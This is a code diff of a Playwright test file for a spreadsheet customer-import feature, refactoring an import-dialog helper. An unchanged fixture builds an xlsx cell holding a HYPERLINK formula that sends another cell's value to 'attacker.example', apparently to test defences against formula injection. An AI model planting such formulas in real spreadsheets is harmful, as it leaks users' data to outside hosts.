@@ -5,9 +5,8 @@ import { utils, write } from '@e965/xlsx'
 import type { Page } from '@playwright/test'
 import { choose, expectChosen } from '../support/pages/choice.ts'
 import { CustomerListPage } from '../support/pages/customer-list-page.ts'
-import { ImportPage } from '../support/pages/import-page.ts'
 import { type MadeFile, madeSheet } from '../support/sheets.ts'
-import { expect, type Office, openOffice, test, words } from './office.ts'
+import { expect, openImport, test, words } from './office.ts'
 
 const headers = ['客户名称', '客户级别']
 const named = (name: string, buffer: Buffer): MadeFile => ({ name, mimeType: '', buffer })
@@ -48,14 +47,6 @@ const withFormulas = (name: string): MadeFile => {
   Object.assign(sheet.B2 as object, { f: 'HYPERLINK("http://attacker.example/?"&A2,"A级")', v: 'A级' })
   utils.book_append_sheet(book, sheet, '客户')
   return named(name, Buffer.from(write(book, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer))
-}
-
-const openImport = async (page: Page, office: Office): Promise<ImportPage> => {
-  await openOffice(page, office, 'member')
-  await page.keyboard.press('Control+i')
-  const dialog = new ImportPage(page)
-  await expect(dialog.choose).toBeFocused()
-  return dialog
 }
 
 /** Every call by which the page would hand a file over. */
